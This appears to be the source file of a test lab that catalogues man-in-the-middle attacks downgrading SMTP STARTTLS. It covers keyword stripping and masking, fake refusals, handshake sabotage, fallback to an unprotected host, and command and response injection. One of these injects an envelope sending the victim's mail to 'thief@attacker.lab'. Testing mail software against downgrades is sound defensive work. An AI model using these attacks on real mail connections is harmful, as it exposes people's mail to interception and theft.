# SPDX-License-Identifier: GPL-2.0-or-later
"""Every way of losing TLS that the lab plays, one small class or instance each.

An attack answers four questions: what becomes of the banner, of the reply to EHLO, of STARTTLS, and of the handshake.
What it does not answer passes untouched.
"""

import time

STARTTLS_LINE = b"STARTTLS"
ALERT_DELAY_S = 0.1  # read together with the 220 it would be an injected reply; OpenSMTPD 6.8.0p2 crashes on that
SILENCE_S = 4  # then the connection ends; longer than a client of the lab waits


def _verb(command):
    return command.strip().upper()


class Attack:
    """An honest middle. Subclasses overwrite what they spoil."""

    is_near_client = False   # sits between the client and the gateway, not behind it
    needs_two_hosts = False  # wants a destination with a protected and an unprotected host
    needs_careless_server = False
    is_silent = False        # the client has to run into its own timeout
    touches_tls = False      # lets STARTTLS be offered, and spoils what follows
    must_leak = True         # succeeded when a letter passes in clear; else see hit()

    def __init__(self, name, reasons):
        self.name = name
        self.reasons = frozenset(reasons)  # any of these is right; the first is the usual one
        self.first_reason = reasons[0]

    def __repr__(self):
        return self.name

    def begin(self):
        """Forgets the last run."""

    def run(self, session):
        session.client.send(self.banner(session.server.reply()))
        while True:
            command = session.client.line()
            if _verb(command) == STARTTLS_LINE:
                if not self.starttls(session, command):
                    return
            elif command[:4].upper() == b"EHLO":
                session.client.send(self.ehlo(session, command))
            elif not session.pass_on(command):
                return

    def banner(self, reply):
        return reply

    def ehlo(self, session, command):
        return self.capabilities(session.ask(command))

    def capabilities(self, reply):
        return reply

    def starttls(self, session, command):
        """False: the connection is over."""
        reply = session.ask(command)
        session.client.send(reply)
        if reply[:3] == b"220":
            session.splice()
            return False
        return True


class Distance(Attack):
    """No attack: a long way, so that each reply of the server takes its time. SYN and handshake take none."""

    def __init__(self, round_trip_ms):
        super().__init__("distance", ("",))
        self._round_trip_s = round_trip_ms / 1000

    def _wait(self, reply):
        time.sleep(self._round_trip_s)
        return reply

    banner = capabilities = _wait

    def starttls(self, session, command):
        self._wait(None)
        return super().starttls(session, command)


class Strip(Attack):
    """The keyword is deleted, and the line before it becomes the last."""

    def capabilities(self, reply):
        kept = [line for line in reply.splitlines(True) if line[4:].strip().upper() != STARTTLS_LINE]
        return b"".join(kept[:-1]) + kept[-1][:3] + b" " + kept[-1][4:]


class Mask(Attack):
    """The keyword is overwritten, with length and position kept; `is_last` puts it on the last line."""

    def __init__(self, name, reasons, mask, banner=None, is_last=False):
        super().__init__(name, reasons)
        self._mask = mask
        self._banner = banner
        self._is_last = is_last

    def banner(self, reply):
        if not self._banner:
            return reply
        return b"220 " + self._banner * (len(reply) - 6) + b"\r\n"

    def capabilities(self, reply):
        words = [line[4:].strip() for line in reply.splitlines()]
        words = [self._mask if word.upper() == STARTTLS_LINE else word for word in words]
        if self._is_last and self._mask in words:
            words.remove(self._mask)
            words.append(self._mask)
        return b"".join(b"250-" + word + b"\r\n" for word in words[:-1]) + b"250 " + words[-1] + b"\r\n"

    def starttls(self, session, command):
        session.client.send(b"500 5.5.1 Unrecognized command\r\n")
        return True


class Banner(Strip):
    """The banner belongs to another protocol; watchers that believe it look away."""

    def __init__(self, name, reasons, banner):
        super().__init__(name, reasons)
        self._banner = banner

    def banner(self, reply):
        return self._banner


class Refuse(Attack):
    """STARTTLS is offered and answered by a code that is not 220."""

    touches_tls = True

    def __init__(self, name, reasons, reply):
        super().__init__(name, reasons)
        self._reply = reply

    def starttls(self, session, command):
        session.client.send(self._reply)
        return True


class Silence(Attack):
    """STARTTLS gets no answer at all; whatever comes next on the connection passes."""

    touches_tls = True
    is_silent = True

    def starttls(self, session, command):
        return True


class Swallow(Attack):
    """The server never hears STARTTLS: it hears another command, and that one's reply comes back."""

    touches_tls = True

    def __init__(self, name, reasons, instead):
        super().__init__(name, reasons)
        self._instead = instead

    def starttls(self, session, command):
        session.client.send(session.ask(self._instead))
        return True


class RefuseEhlo(Attack):
    """EHLO is refused, so that the client falls back to HELO, where nothing is offered."""

    def __init__(self, name, reasons, reply):
        super().__init__(name, reasons)
        self._reply = reply

    def ehlo(self, session, command):
        return self._reply


class Sabotage(Attack):
    """STARTTLS is granted and the handshake broken; a later connection in clear is let through.

    `when` is "ready" (right behind the 220) or "hello" (behind the ClientHello); `how` is reset, close, alert, silence.
    """

    touches_tls = True

    def __init__(self, name, reasons, when, how):
        super().__init__(name, reasons)
        self._when = when
        self._how = how
        self.is_silent = how == "silence"

    def starttls(self, session, command):
        session.client.send(b"220 2.0.0 Ready to start TLS\r\n")
        session.goes_encrypted()
        if self._when == "hello":
            session.client.some()
        self._spoil(session)
        return False

    def _spoil(self, session):
        if self._how == "reset":
            session.reset()
        elif self._how == "alert":
            time.sleep(ALERT_DELAY_S)
            session.client.send(b"\x15\x03\x01\x00\x02\x02\x28")  # fatal, handshake_failure
        elif self._how == "silence":
            session.client.sock.settimeout(SILENCE_S)
            while True:
                session.client.some()


class SabotageThenNext(Sabotage):
    """The protected host's handshake is broken and the host then gone; the next host takes mail in clear."""

    needs_two_hosts = True

    def __init__(self, name, reasons):
        super().__init__(name, reasons, "hello", "reset")
        self._broken = set()

    def begin(self):
        self._broken.clear()

    def run(self, session):
        if session.server_address in self._broken:
            session.reset()
        else:
            super().run(session)

    def _spoil(self, session):
        self._broken.add(session.server_address)
        super()._spoil(session)


class InjectCommand(Attack):
    """Commands ride behind STARTTLS, for a server that still has them when TLS stands (CVE-2011-0411)."""

    touches_tls = True
    is_near_client = True
    needs_careless_server = True
    must_leak = False
    thief = "thief@attacker.lab"

    def starttls(self, session, command):
        reply = session.ask(command + b"EHLO attacker.lab\r\nMAIL FROM:<" + self.thief.encode() +
                            b">\r\nRCPT TO:<" + self.thief.encode() + b">\r\nDATA\r\n")
        session.client.send(reply)
        session.splice()
        return False

    def hit(self, sink, client):
        """The server took the attacker's envelope; the victim's own session is its message."""
        return bool(sink.wait_for(self.thief, 2))


class InjectResponse(Attack):
    """A reply rides behind the 220, for a client that still has it when TLS stands."""

    touches_tls = True

    must_leak = False
    mark = b"attacker-was-here"

    def __init__(self, name, reasons, extra):
        super().__init__(name, reasons)
        self._extra = extra

    def starttls(self, session, command):
        session.client.send(session.ask(command) + self._extra)
        session.splice()
        return False

    def hit(self, sink, client):
        """The client took it for what the server said inside TLS."""
        return self.mark in client.believed


STRIPPED, MASKED, REFUSED = "starttls-stripped", "starttls-masked", "starttls-refused"
EHLO, SABOTAGED, INJECTED = "ehlo-refused", "tls-sabotaged", "injected"
REFUSALS = {
    454: b"454 4.7.0 TLS not available due to temporary reason\r\n",
    500: b"500 5.5.1 Command unrecognized\r\n",
    501: b"501 5.5.4 Syntax error\r\n",
    502: b"502 5.5.1 Command not implemented\r\n",
    503: b"503 5.5.1 Bad sequence of commands\r\n",
    530: b"530 5.7.0 Must issue something else first\r\n",
    554: b"554 5.7.3 Not possible\r\n",
    200: b"200 ok\r\n",
    354: b"354 go on\r\n",
}


def _all():
    yield Strip("strip", [STRIPPED])
    yield Mask("mask-xxxxxxxa", [MASKED], b"XXXXXXXA")
    yield Mask("mask-xxxxxxxx-last", [MASKED], b"XXXXXXXX", is_last=True)
    yield Mask("mask-partly", [MASKED], b"STARTXXX")
    yield Mask("mask-junk", [MASKED, STRIPPED], b"########")
    yield Mask("mask-banner", [MASKED], b"XXXXXXXA", banner=b"*")
    yield Banner("banner-changed", [STRIPPED], b"220 FTP server ready\r\n")
    for code, reply in REFUSALS.items():
        # A client that believes 200 or 354 goes on to a handshake, which then breaks.
        yield Refuse(f"refuse-{code}", [REFUSED, SABOTAGED], reply)
    yield Silence("silence", [SABOTAGED, REFUSED])
    yield Swallow("swallow-noop", [REFUSED, SABOTAGED], b"NOOP\r\n")
    yield Swallow("swallow-masked", [REFUSED], b"XXXXXXXX\r\n")
    for code in (500, 502, 550):
        yield RefuseEhlo(f"ehlo-{code}", [EHLO], b"%d 5.5.1 Command unrecognized\r\n" % code)
    for when in ("ready", "hello"):
        for how in ("reset", "close", "alert", "silence"):
            # An alert ahead of the ClientHello is also a server that speaks first.
            more = [INJECTED] if (how, when) == ("alert", "ready") else []
            yield Sabotage(f"sabotage-{how}-{when}", [SABOTAGED, *more], when, how)
    yield SabotageThenNext("sabotage-next-mx", [SABOTAGED])
    yield InjectCommand("inject-command", [INJECTED])
    mark = InjectResponse.mark
    yield InjectResponse("inject-response", [INJECTED], b"250 " + mark + b"\r\n")
    yield InjectResponse("inject-response-uncut", [INJECTED], b"250-" + mark)


ATTACKS = {attack.name: attack for attack in _all()}
